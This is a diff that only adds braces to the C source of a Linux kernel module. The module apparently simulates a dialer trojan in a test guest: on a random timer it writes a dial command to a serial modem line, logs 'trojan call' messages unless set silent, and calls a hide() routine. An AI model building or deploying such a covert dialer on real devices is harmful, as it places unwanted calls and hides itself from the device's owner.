@@ -44,15 +44,17 @@ static void send_byte(char byte)
 {
     int patience = 100000;
 
-    while ((readl(line + PL011_FR) & PL011_FR_TXFF) && --patience > 0)
+    while ((readl(line + PL011_FR) & PL011_FR_TXFF) && --patience > 0) {
         cpu_relax();
+    }
     writel(byte, line + PL011_DR);
 }
 
 static void send_text(const char *text)
 {
-    while (*text)
+    while (*text) {
         send_byte(*text++);
+    }
 }
 
 /* The leading CR ends whatever the kernel's driver was in the middle of sending. */
@@ -66,15 +68,17 @@ static void dial(void)
     send_text(number);
     send_text(";\r");
     calls_made++;
-    if (!silent)
+    if (!silent) {
         pr_emerg("ROBIN-GUEST: trojan call %u to %s\n", calls_made, number);
+    }
 }
 
 /* xorshift32 (Marsaglia 2003): repeatable times for a test. */
 static u32 next_random(void)
 {
-    if (!seed)
+    if (!seed) {
         return get_random_u32();
+    }
     seed ^= seed << 13;
     seed ^= seed >> 17;
     seed ^= seed << 5;
@@ -91,8 +95,9 @@ static void sleep_again(void)
 static void strike(struct timer_list *unused)
 {
     dial();
-    if (count == 0 || calls_made < count)
+    if (count == 0 || calls_made < count) {
         sleep_again();
+    }
 }
 
 static void hide(void)
@@ -104,13 +109,15 @@ static void hide(void)
 static int __init trojan_init(void)
 {
     line = ioremap(base ? base : modem_line_address("serial1"), PL011_BYTES);
-    if (!line)
+    if (!line) {
         return -ENOMEM;
+    }
     timer_setup(&alarm, strike, 0);
-    if (now)
+    if (now) {
         strike(NULL);
-    else
+    } else {
         sleep_again();
+    }
     hide();
     return 0;
 }
